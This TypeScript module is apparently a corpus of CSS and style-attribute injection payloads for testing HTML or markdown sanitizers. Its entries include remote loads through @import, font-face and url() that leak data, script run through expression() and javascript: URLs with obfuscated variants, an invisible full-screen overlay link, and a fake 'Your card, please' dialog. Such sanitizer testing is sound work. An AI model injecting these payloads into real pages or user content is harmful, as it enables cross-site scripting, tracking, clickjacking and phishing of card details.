import type { Family } from './payload.ts'

/** Style sheets and style attributes: they load, hide, cover, and once ran script. */
export const styles: Family = {
  element: ({ ask }) => `<style>body{background:url(${ask})}</style>`,
  import: ({ ask }) => `<style>@import url("${ask}");</style>`,
  'import-without-url': ({ ask }) => `<style>@import '${ask}';</style>`,
  'font-face': ({ ask }) => `<style>@font-face{font-family:a;src:url(${ask})}*{font-family:a}</style>`,
  'element-without-end': () => '<style>*{display:none}',
  'attribute-background': ({ ask }) => `<b style="background:url('${ask}')">a</b>`,
  'attribute-script-address': ({ run }) => `<b style="background:url(javascript:${run})">a</b>`,
  'attribute-expression': ({ run }) => `<b style="width:expression(${run})">a</b>`,
  'attribute-expression-with-comments': ({ run }) => `<b style="width:exp/**/ression(${run})">a</b>`,
  'attribute-expression-with-escapes': ({ run }) => `<b style="width:\\65xpression(${run})">a</b>`,
  'attribute-binding': ({ ask }) => `<b style="-moz-binding:url('${ask}#xss')">a</b>`,
  'attribute-behaviour': ({ ask }) => `<b style="behavior:url(${ask})">a</b>`,
  'attribute-that-covers': ({ ask }) =>
    `<a href="${ask}" style="position:fixed;inset:0;z-index:99999">Continue</a>`,
  'attribute-that-hides': () => '<div style="display:none">the rest</div>',
  'attribute-in-a-heading': ({ ask }) => `# a <span style="background:url(${ask})">b</span>`,
  'attribute-with-a-variable': ({ ask }) => `<b style="--a:url(${ask});background:var(--a)">a</b>`,
  'attribute-with-a-cursor': ({ ask }) => `<b style="cursor:url(${ask}),auto">a</b>`,
  'attribute-with-a-list-image': ({ ask }) => `<ul style="list-style-image:url(${ask})"><li>a</ul>`,
  'class-of-the-site': () => '<div class="skip toast overlay" role="alertdialog">Your card, please</div>',
  'selectors-that-leak': ({ ask }) => `<style>a[href^="/"]{background:image-set(url(${ask}) 1x)}</style>`,
  'code-with-a-class-of-the-site': () => '```language-a&#32;skip&#10;toast\ncode\n```',
  'code-with-a-style': ({ ask }) => `\`\`\`js" style="background:url(${ask})"\ncode\n\`\`\``,
}
